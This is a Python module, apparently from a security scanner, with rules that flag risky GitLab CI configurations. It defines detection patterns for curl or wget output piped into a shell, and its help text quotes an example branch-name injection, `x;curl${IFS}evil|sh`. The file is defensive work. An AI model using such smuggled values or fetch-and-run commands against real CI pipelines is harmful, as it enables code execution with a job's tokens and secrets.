"""GitLab CI security rules (DT-L…).

Contract: rules read `.gitlab-ci.yml` (and files it includes) as composed YAML with `<<` merges
resolved; top-level keywords, `default:` and hidden `.templates` are not jobs, but their images,
scripts and variables are checked where they are written, once (a template used by five jobs is one
finding at the template's line). Rules that depend on a job's effective configuration (Docker-in-Docker
with TLS off) resolve `extends:` within the file, `default:` and the global keywords. Scripts are read
with `core.rules.shell_words`, so quoting decides whether a CI variable is data or code.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from core.models import FileKind, Position, Severity
from core.parsing import ParsedFile
from core.redact import redact
from core.rules.base import FileCache, Hit, ScanContext, rule
from core.rules.containers import image_pin_problem
from core.rules.gha_model import fields
from core.rules.shell_words import SHELLS, Command, Word, pipelines, program, split_commands, unwrap
from core.rules.yaml_text import SourceMap
from core.secrets.keywords import looks_like_secret_assignment
from core.yamlnodes import (
    REFERENCE_TAG,
    MappingNode,
    Node,
    ScalarNode,
    SequenceNode,
    get,
    items,
    node_position,
    scalar,
)

GITLAB = (FileKind.GITLAB_CI,)

#: Top-level keys that configure the pipeline rather than name a job.
_KEYWORDS = frozenset({"image", "services", "stages", "types", "before_script", "after_script", "variables",
                       "cache", "include", "workflow", "default", "spec"})
_SCRIPT_KEYS = ("before_script", "script", "after_script")

#: Free text anyone who can push a commit or open a merge request chooses.
TEXT_VARIABLES = frozenset({
    "CI_COMMIT_MESSAGE", "CI_COMMIT_TITLE", "CI_COMMIT_DESCRIPTION", "CI_COMMIT_TAG_MESSAGE",
    "CI_COMMIT_AUTHOR", "CI_MERGE_REQUEST_TITLE", "CI_MERGE_REQUEST_DESCRIPTION",
})
#: Branch and tag names: no spaces or globs, but `;`, `$`, `{}`, `|` and backticks are allowed.
REF_VARIABLES = frozenset({
    "CI_COMMIT_REF_NAME", "CI_COMMIT_BRANCH", "CI_COMMIT_TAG", "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
    "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
})
_USER_VARIABLES = TEXT_VARIABLES | REF_VARIABLES
_VAR_IN_VALUE = re.compile(r"\$\{?([A-Za-z_]\w*)")
_VAR_NAME = re.compile(r"[A-Za-z_]\w*")
_SHELL_C = re.compile(r"^-[A-Za-z]*c[A-Za-z]*$")
_SSH_VALUE_OPTIONS = frozenset("bcDEeFIiJLlmOopQRSWw")
_DOWNLOADERS = frozenset({"curl", "wget"})
_INTERPRETERS = SHELLS | {"python", "python3", "perl", "ruby", "node"}
_FETCH_SUBST = re.compile(r"(?:<\(|\$\()\s*(?:curl|wget)\b")


@dataclass(frozen=True, slots=True)
class JobLike:
    """A mapping that holds job keywords: a job, a hidden template, `default:` or the top level."""

    name: str
    node: MappingNode
    is_job: bool
    keys: dict[str, Node]

    def get(self, key: str) -> Node | None:
        return self.keys.get(key)


@dataclass(frozen=True, slots=True)
class Pipeline:
    doc: MappingNode
    parts: tuple[JobLike, ...]
    source: SourceMap

    @property
    def jobs(self) -> tuple[JobLike, ...]:
        return tuple(p for p in self.parts if p.is_job)

    def find(self, name: str) -> JobLike | None:
        return next((p for p in self.parts if p.name == name), None)


def _config_doc(parsed: ParsedFile) -> MappingNode | None:
    """The pipeline document; a CI/CD component's `spec:` header document is skipped."""
    for doc in parsed.docs:
        if isinstance(doc, MappingNode) and [k.value for k, _ in items(doc)] != ["spec"]:
            return doc
    return None


def _pipeline(parsed: ParsedFile) -> Pipeline | None:
    doc = _config_doc(parsed)
    if doc is None:
        return None
    parts = [JobLike("(top level)", doc, False, fields(doc))]
    for key, value in items(doc):
        if not isinstance(value, MappingNode):
            continue
        if key.value == "default":
            parts.append(JobLike("default", value, False, fields(value)))
        elif key.value not in _KEYWORDS:
            parts.append(JobLike(key.value, value, not key.value.startswith("."), fields(value)))
    return Pipeline(doc, tuple(parts), SourceMap(parsed.text))


#: The file's job-like mappings, built once per file for every L rule.
pipeline_of = FileCache(_pipeline)


def _model(parsed: ParsedFile) -> Pipeline | None:
    return pipeline_of(parsed) if parsed.docs else None


def _flatten(node: Node | None) -> Iterator[ScalarNode]:
    """Script lines: a string, a list, or nested lists (GitLab flattens them). A `!reference [.job, key]`
    names lines written elsewhere, where they are checked; its operands are not script lines."""
    if isinstance(node, ScalarNode):
        if node.value:
            yield node
    elif isinstance(node, SequenceNode) and node.tag != REFERENCE_TAG:
        for child in node.value:
            yield from _flatten(child)


def _script_lines(pipeline: Pipeline) -> Iterator[tuple[JobLike, ScalarNode]]:
    seen: set[int] = set()
    for part in pipeline.parts:
        for key in _SCRIPT_KEYS:
            for line in _flatten(part.get(key)):
                if id(line) not in seen:
                    seen.add(id(line))
                    yield part, line


def _image_nodes(part: JobLike) -> Iterator[tuple[str, ScalarNode]]:
    image = part.get("image")
    name = get(image, "name") if isinstance(image, MappingNode) else image
    if isinstance(name, ScalarNode):
        yield "image", name
    services = part.get("services")
    for service in services.value if isinstance(services, SequenceNode) else []:
        name = get(service, "name") if isinstance(service, MappingNode) else service
        if isinstance(name, ScalarNode):
            yield "service", name


@rule(
    "DT-L001",
    "CI image not pinned",
    Severity.MEDIUM,
    GITLAB,
    help="""
An `image:` or `services:` entry without a tag, or with `latest`, runs whatever was pushed last: jobs
change without a commit, break on a new major version, and pick up a compromised image at once. Pin an
explicit version (`python:3.12-slim`), or a digest (`python@sha256:…`) where reproducibility matters.
""",
)
def unpinned_image(parsed: ParsedFile, ctx: ScanContext) -> Iterator[Hit]:
    pipeline = _model(parsed)
    if pipeline is None:
        return
    seen: set[int] = set()
    for part in pipeline.parts:
        for what, node in _image_nodes(part):
            problem = image_pin_problem(node.value)
            if problem and id(node) not in seen:
                seen.add(id(node))
                yield Hit(node_position(node), f"{what} `{node.value}` {problem}",
                          anchor=f"{what}:{node.value}")


@rule(
    "DT-L002",
    "Downloaded script piped into a shell",
    Severity.MEDIUM,
    GITLAB,
    help="""
`curl … | sh` runs whatever the server returns at that moment, with the job's CI token and variables,
and leaves no record of what ran. Download to a file, verify its checksum or signature, then run it —
or install the tool from a pinned package or image.
""",
)
def curl_pipe_shell(parsed: ParsedFile, ctx: ScanContext) -> Iterator[Hit]:
    pipeline = _model(parsed)
    if pipeline is None:
        return
    for _, line in _script_lines(pipeline):
        text = line.value
        if "curl" not in text and "wget" not in text:
            continue
        for group in pipelines(split_commands(text)):
            fetch = next((c for c in group if program(unwrap(c.argv)) in _DOWNLOADERS), None)
            if fetch is None:
                continue
            after = group[group.index(fetch) + 1:]
            shell = next((c for c in after if program(unwrap(c.argv)) in _INTERPRETERS), None)
            if shell is not None:
                end = unwrap(shell.argv)[0].end
                yield Hit(pipeline.source.span(line, fetch.argv[0].start, end),
                          f"output of {program(unwrap(fetch.argv))} is run by "
                          f"{program(unwrap(shell.argv))} unverified")
        for match in _FETCH_SUBST.finditer(text):
            before = text[:match.start()]
            if re.search(r"\b(?:ba|z|da|k)?sh\b|\bsource\b|(?:^|\s)\.\s", before):
                yield Hit(pipeline.source.span(line, match.start(), match.end()),
                          "a downloaded script is run by a shell unverified")


@dataclass(frozen=True, slots=True)
class _Ref:
    name: str
    start: int
    end: int
    double_quoted: bool


def _refs(raw: str, base: int) -> Iterator[_Ref]:
    """`$NAME` / `${NAME…}` expanded by this shell in a word as written (single quotes excluded)."""
    index, length, in_double = 0, len(raw), False
    while index < length:
        char = raw[index]
        if char == "\\":
            index += 2
        elif char == "'" and not in_double:
            close = raw.find("'", index + 1)
            index = length if close < 0 else close + 1
        elif char == '"':
            in_double = not in_double
            index += 1
        elif char == "$":
            braced = raw.startswith("${", index)
            match = _VAR_NAME.match(raw, index + (2 if braced else 1))
            if match is None:
                index += 1
                continue
            end = match.end()
            if braced:
                close = raw.find("}", end)
                end = length if close < 0 else close + 1
            yield _Ref(match.group(0), base + index, base + end, in_double)
            index = end
        else:
            index += 1


@dataclass(frozen=True, slots=True)
class _Use:
    """A user-controlled variable in a script: how the shell will treat it."""

    ref: _Ref
    as_code: str  # why it runs as code, or '' when it is only an argument


def _code_words(argv: tuple[Word, ...]) -> tuple[dict[int, str], Word | None]:
    """Words whose text is run as shell code, with the reason; and the command word itself."""
    words = unwrap(argv)
    if not words:
        return {}, None
    code: dict[int, str] = {}
    name = program(words)
    if name == "eval":
        code.update({id(w): "eval runs it as code" for w in words[1:]})
    elif name == "ssh":
        index = 1
        while index < len(words) and words[index].text.startswith("-"):
            flag = words[index].text
            index += 2 if len(flag) == 2 and flag[1] in _SSH_VALUE_OPTIONS else 1
        code.update({id(w): "ssh runs it as a remote shell command" for w in words[index + 1:]})
    for index, word in enumerate(words[:-1]):
        if word.text.rsplit("/", 1)[-1] in SHELLS:
            for later in range(index + 1, len(words) - 1):
                if _SHELL_C.match(words[later].text):
                    code[id(words[later + 1])] = f"`{word.text} -c` runs it as code"
                    break
    return code, words[0]


def _uses(text: str, names: frozenset[str], base: int = 0, depth: int = 0) -> Iterator[_Use]:
    for command in split_commands(text):
        yield from _command_uses(text, command, names, base, depth)


def _command_uses(text: str, command: Command, names: frozenset[str], base: int,
                  depth: int) -> Iterator[_Use]:
    code, head = _code_words(command.argv)
    for word in command.words:
        raw = text[word.start:word.end]
        if "$" not in raw:
            continue
        if "$(" in raw and depth < 4:
            for sub in re.finditer(r"\$\(", raw):
                inner_start = word.start + sub.end()
                inner_end = text.find(")", inner_start)
                inner_end = word.end if inner_end < 0 else min(inner_end, word.end)
                yield from _uses(text[inner_start:inner_end], names, base + inner_start, depth + 1)
        for ref in _refs(raw, base + word.start):
            if ref.name not in names or _inside_substitution(raw, ref.start - base - word.start):
                continue
            reason = code.get(id(word), "")
            if not reason and word is head:
                reason = "it is the command the shell runs"
            yield _Use(ref, reason)


def _inside_substitution(raw: str, offset: int) -> bool:
    opened = raw.rfind("$(", 0, offset)
    return opened >= 0 and raw.find(")", opened) > offset


def _user_variables(pipeline: Pipeline) -> frozenset[str]:
    """The predefined user-controlled variables plus variables defined from them in `variables:`."""
    names = set(_USER_VARIABLES)
    for part in pipeline.parts:
        for key, value in items(part.get("variables")):
            text = scalar(get(value, "value") if isinstance(value, MappingNode) else value) or ""
            if any(m.group(1) in _USER_VARIABLES for m in _VAR_IN_VALUE.finditer(text)):
                names.add(key.value)
    return frozenset(names)


def _lex_script_uses(parsed: ParsedFile) -> tuple[tuple[ScalarNode, _Use], ...]:
    pipeline = _model(parsed)
    if pipeline is None:
        return ()
    names = _user_variables(pipeline)
    defined = names - _USER_VARIABLES

    def worth_lexing(text: str) -> bool:
        return "$" in text and ("CI_" in text or any(name in text for name in defined))

    return tuple(
        (line, use)
        for _, line in _script_lines(pipeline)
        if worth_lexing(line.value)
        for use in _uses(line.value, names)
    )


#: User-controlled variables in every script line, lexed once for DT-L003 and DT-L004.
_script_uses = FileCache(_lex_script_uses)


@rule(
    "DT-L003",
    "Commit or merge request text run as code",
    Severity.HIGH,
    GITLAB,
    help="""
Commit messages, merge request titles and branch names are chosen by whoever pushes or opens the merge
request. Passed to `eval`, `sh -c "…"`, `ssh host "…"` or used as the command itself, the shell parses
them as code — a branch named `x;curl${IFS}evil|sh` runs with the job's token and variables. Keep such
values in double-quoted arguments (`"$CI_COMMIT_TITLE"`), or pass them to the inner shell as an
argument (`sh -c 'echo "$1"' _ "$CI_COMMIT_TITLE"`).
""",
)
def ci_variable_injection(parsed: ParsedFile, ctx: ScanContext) -> Iterator[Hit]:
    pipeline = _model(parsed)
    if pipeline is None:
        return
    for line, use in _script_uses(parsed):
        if use.as_code:
            yield Hit(pipeline.source.span(line, use.ref.start, use.ref.end),
                      f"${use.ref.name} is user-controlled and {use.as_code}",
                      anchor=f"{line.value}:{use.ref.name}")


@rule(
    "DT-L004",
    "Commit or merge request text used unquoted",
    Severity.LOW,
    GITLAB,
    help="""
An unquoted `$CI_COMMIT_MESSAGE` or `$CI_MERGE_REQUEST_TITLE` is split into words and glob-expanded, so
a message containing `*` or `--force` turns into file names and options of the command. Quote it:
`"$CI_COMMIT_MESSAGE"`. (Branch names cannot contain spaces or globs, so they are not reported here.)
""",
)
def unquoted_ci_text(parsed: ParsedFile, ctx: ScanContext) -> Iterator[Hit]:
    pipeline = _model(parsed)
    if pipeline is None:
        return
    refs_only = REF_VARIABLES
    for line, use in _script_uses(parsed):
        if not use.as_code and not use.ref.double_quoted and use.ref.name not in refs_only:
            yield Hit(pipeline.source.span(line, use.ref.start, use.ref.end),
                      f"${use.ref.name} is unquoted: the shell splits and glob-expands its text",
                      anchor=f"{line.value}:{use.ref.name}")


def _variables(node: Node | None) -> Iterator[tuple[ScalarNode, ScalarNode]]:
    """(key, value node) of a `variables:` mapping, for `KEY: v` and `KEY: {value: v}` forms."""
    for key, value in items(node):
        found = get(value, "value") if isinstance(value, MappingNode) else value
        if isinstance(found, ScalarNode):
            yield key, found


@rule(
    "DT-L005",
    "Plaintext secret in CI variables",
    Severity.HIGH,
    GITLAB,
    help="""
Values under `variables:` are committed with the pipeline: everyone with read access to the repository,
its forks and its history can read them, and they are not masked in job logs. Move the value to a masked,
protected CI/CD variable in the project settings (or an external secrets manager) and rotate it.
""",
    tags=("security", "secret"),
)
def secret_variable(parsed: ParsedFile, ctx: ScanContext) -> Iterator[Hit]:
    pipeline = _model(parsed)
    if pipeline is None:
        return
    seen: set[int] = set()
    for part in pipeline.parts:
        for key, value in _variables(part.get("variables")):
            if id(value) in seen or not looks_like_secret_assignment(key.value, value.value):
                continue
            seen.add(id(value))
            where = "global variables" if part.name == "(top level)" else f"`{part.name}`"
            yield Hit(node_position(value), f"{key.value} in {where} holds a plaintext secret "
                      f"{redact(value.value)}", anchor=f"var:{key.value}")


def _extends(part: JobLike) -> list[str]:
    node = part.get("extends")
    if isinstance(node, ScalarNode):
        return [node.value]
    return [v for v in (scalar(n) for n in (node.value if isinstance(node, SequenceNode) else [])) if v]


def _lookup(pipeline: Pipeline, part: JobLike, key: str, depth: int = 0) -> Node | None:
    """A job keyword as GitLab resolves it: the job, then what it extends (last wins)."""
    value = part.get(key)
    if value is not None or depth > 10:
        return value
    for parent_name in reversed(_extends(part)):
        parent = pipeline.find(parent_name)
        if parent is not None:
            value = _lookup(pipeline, parent, key, depth + 1)
            if value is not None:
                return value
    return None


def _job_variables(pipeline: Pipeline, part: JobLike, depth: int = 0) -> dict[str, ScalarNode]:
    """Effective variables: global, then extended templates in order, then the job's own."""
    out: dict[str, ScalarNode] = {}
    if depth == 0:
        out.update({k.value: v for k, v in _variables(get(pipeline.doc, "variables"))})
    if depth <= 10:
        for parent_name in _extends(part):
            parent = pipeline.find(parent_name)
            if parent is not None:
                out.update(_job_variables(pipeline, parent, depth + 1))
    out.update({k.value: v for k, v in _variables(part.get("variables"))})
    return out


_DIND = re.compile(r"(?:^|/)docker:(?:[\w.-]*-)?dind\b")
_PLAIN_DOCKER_HOST = re.compile(r"^tcp://[^/]*:2375/?$")


@rule(
    "DT-L006",
    "Docker-in-Docker without TLS",
    Severity.MEDIUM,
    GITLAB,
    help="""
With `DOCKER_TLS_CERTDIR: ""` or `DOCKER_HOST: tcp://…:2375` the `docker:dind` service listens without
TLS or authentication, so anything that can reach it on the runner's network (another service, another
job on a shared host) gets root-equivalent control of the daemon and the images it builds. Keep TLS on:
`DOCKER_TLS_CERTDIR: "/certs"` and `DOCKER_HOST: tcp://docker:2376`.
""",
)
def dind_without_tls(parsed: ParsedFile, ctx: ScanContext) -> Iterator[Hit]:
    pipeline = _model(parsed)
    if pipeline is None:
        return
    default = pipeline.find("default")
    found: dict[int, tuple[ScalarNode, str, list[str]]] = {}
    for job in pipeline.jobs:
        services = _lookup(pipeline, job, "services")
        if services is None:
            services = default.get("services") if default else None
        if services is None:
            services = get(pipeline.doc, "services")
        variables = _job_variables(pipeline, job)
        dind = False
        for service in services.value if isinstance(services, SequenceNode) else []:
            name = get(service, "name") if isinstance(service, MappingNode) else service
            if _DIND.search(scalar(name) or ""):
                dind = True
                variables.update({k.value: v for k, v in _variables(get(service, "variables"))})
        if not dind:
            continue
        for key, value in variables.items():
            text = value.value.strip()
            if (key == "DOCKER_TLS_CERTDIR" and text == "") or (
                    key == "DOCKER_HOST" and _PLAIN_DOCKER_HOST.match(text)):
                what = "DOCKER_TLS_CERTDIR is empty" if key == "DOCKER_TLS_CERTDIR" else \
                    f"DOCKER_HOST is {text}"
                found.setdefault(id(value), (value, what, []))[2].append(job.name)
    for value, what, jobs in found.values():
        names = ", ".join(jobs[:5]) + (f" and {len(jobs) - 5} more" if len(jobs) > 5 else "")
        yield Hit(_value_position(value), f"{what}: the docker:dind service of {names} accepts "
                  "unauthenticated, unencrypted connections", anchor=f"dind:{what}")


def _value_position(node: ScalarNode) -> Position:
    """An empty `""` still has a width of two columns, so the finding is visible."""
    position = node_position(node)
    if position.end_line == position.line and position.end_column == position.column:
        return Position(position.line, position.column, position.line, position.column + 1)
    return position
